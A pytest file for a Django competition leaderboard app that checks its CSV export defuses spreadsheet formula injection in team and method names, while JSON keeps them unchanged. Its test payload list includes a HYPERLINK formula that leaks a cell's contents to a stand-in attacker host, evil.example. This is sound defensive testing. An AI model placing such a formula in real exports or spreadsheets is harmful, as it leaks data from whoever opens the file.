"""CSV exports never hand a spreadsheet a formula: cells starting with = + - @, a tab or a
carriage return are shown as text (a leading apostrophe); HTML and JSON keep the names as they are."""
import csv
import io

import pytest
from django.urls import reverse

from cupboard.csvexport import csv_text, safe_cell
from cupboard.leaderboards.services import leaderboard_refresh
from tests.factories import make_team, make_user
from tests.leaderboards.conftest import make_scored, ndcg
from tests.personas import client_for

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_it_neutralises_method_and_team_names_in_the_leaderboard_csv(cast):
    phase = cast.competition.phases.get(slug="dev")
    for number, formula in enumerate(FORMULAS):
        team = make_team(cast.competition, name=f"{formula[:1]}team{number}", members=[make_user()])
        make_scored(phase, team=team, method=formula, scores=ndcg(sw=0.1 * (number + 1), te=0.2))
    leaderboard_refresh(phase=phase)

    response = client_for(cast.anonymous).get(reverse("leaderboards:export_csv", args=["cup", "dev"]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))

    assert sorted(row["method"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    assert all(row["team"].startswith("'") for row in rows)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    assert {row["nDCG@10 sw"] for row in rows} == {f"{0.1 * n:.3f}" for n in range(1, len(FORMULAS) + 1)}
    data = client_for(cast.anonymous).get(reverse("leaderboards:export_json", args=["cup", "dev"])).json()
    assert sorted(row["method"] for row in data["rows"]) == sorted(FORMULAS)


@pytest.mark.parametrize("value, shown", [("BM25", "BM25"), ("a=b", "a=b"), ("", ""), (None, ""), (3, "3"),
                                          ("0.123", "0.123"), ("=1", "'=1"), ("-x", "'-x")])
def test_it_leaves_ordinary_cells_alone(value, shown):
    assert safe_cell(value) == shown
    assert next(csv.reader(io.StringIO(csv_text([[value, "x"]]), newline=""))) == [shown, "x"]
